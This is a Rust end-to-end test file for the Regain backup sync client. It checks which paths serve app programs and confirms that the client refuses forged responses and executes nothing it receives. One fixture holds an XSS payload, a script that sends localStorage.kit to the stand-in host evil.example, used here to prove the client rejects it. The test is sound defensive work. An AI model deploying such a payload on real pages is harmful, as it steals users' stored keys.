//! Row 17: an altered web app. Stated limit for whoever serves the app; the native command line is the reference, and this harness
//! runs its client. What can be shown here: programs lie under `/app/` alone, under names that say what is in them, the operator's
//! listener serves none, and a client executes nothing it is handed. The app's own policy is tested in a browser.

use regain_e2e::mutator::Instead;
use regain_sync::{Request, Response, SyncError};

use crate::common::{assert_heals, household, refused};

#[test]
fn programs_lie_under_one_path_and_the_client_runs_none() {
    let (service, mut phone, _) = household();
    for path in ["/index.html", "/sw.js", "/assets/app.js", "/app/assets/app.js", "/app/assets/app_bg.wasm"] {
        assert_eq!(phone.wire.send(Request::get(path)).status, 404, "{path}");
    }
    for path in ["/", "/app/", "/app/sw.js"] {
        let answer = service.admin().send(&Request::get(path)).unwrap();
        assert_eq!(answer.status, 404, "{path}");
    }
    let before = phone.codes();
    for content_type in
        ["text/html", "application/javascript", "application/wasm", regain_protocol::ENTRIES_TYPE]
    {
        let mut victim = phone.duplicate().behind(Instead(move |_: &mut Request| {
            let body = b"<script>fetch('https://evil.example/' + localStorage.kit)</script>".to_vec();
            Some(Response { status: 200, content_type: content_type.to_owned(), head: None, body })
        }));
        let error = refused(victim.sync());
        assert_eq!(error, SyncError::NotRegain { status: 200 });
        assert_eq!(
            error.to_string(),
            "this address does not answer as a Regain backup service (HTTP status 200)"
        );
        assert_eq!(victim.codes(), before);
        assert_heals(&mut victim);
    }
}
